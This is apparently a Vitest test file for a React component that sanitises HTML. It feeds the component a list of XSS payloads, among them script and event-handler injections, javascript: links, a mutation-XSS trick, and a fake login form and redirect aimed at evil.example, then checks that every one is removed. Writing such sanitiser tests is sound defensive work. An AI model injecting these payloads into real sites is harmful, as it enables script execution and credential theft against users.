import { expect, it } from "vitest";
import { renderWithUiKit } from "../../../test/renderWithUiKit.tsx";
import { RichHtml } from "./RichHtml.tsx";

const attacks = [
  "<script>window.hit=1</script>",
  "<img src=x onerror=window.hit=1>",
  "<svg onload=window.hit=1><a xlink:href='javascript:window.hit=1'>x</a></svg>",
  "<a href='javascript:window.hit=1'>press</a>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<form action='//evil.example'><input name=password><button>Log in</button></form>",
  "<style>body{display:none}</style><link rel=stylesheet href='//evil.example'>",
  "<div style='position:fixed;inset:0' class='x' id='root'>cover</div>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
  "<base href='//evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>",
];

it("AN-02: takes out all that runs, submits, restyles or covers the page", async () => {
  const screen = await renderWithUiKit(<RichHtml html={`<p>Still here</p>${attacks.join("")}`} />);
  await expect.element(screen.getByText("Still here")).toBeVisible();
  for (const link of screen.container.querySelectorAll("a")) link.click();
  expect(
    screen.container.querySelectorAll(
      "script, svg, iframe, form, input, button, style, link, base, meta, [style], [id], [class*=x], [onerror], [href^=javascript]",
    ),
  ).toHaveLength(0);
  expect("hit" in window).toBe(false);
});

it("AN-02: keeps honest formatting; links open beside the page", async () => {
  const screen = await renderWithUiKit(
    <RichHtml
      html={'<h2>Weekend</h2><p>Play <b>Golden Koi</b></p><ul><li>One</li></ul><a href="https://news.example">More</a>'}
    />,
  );
  await expect.element(screen.getByRole("heading", { name: "Weekend" })).toBeVisible();
  expect(screen.container.querySelectorAll("b, li")).toHaveLength(2);
  await expect.element(screen.getByRole("link", { name: "More" })).toHaveAttribute("rel", "noopener noreferrer");
});

it("shows the latest text when it changes quickly", async () => {
  const screen = await renderWithUiKit(<RichHtml html="<p>First</p>" />);
  await screen.rerender(<RichHtml html="<p>Second</p>" />);
  await expect.element(screen.getByText("Second")).toBeVisible();
  expect(screen.container.textContent).not.toContain("First");
});
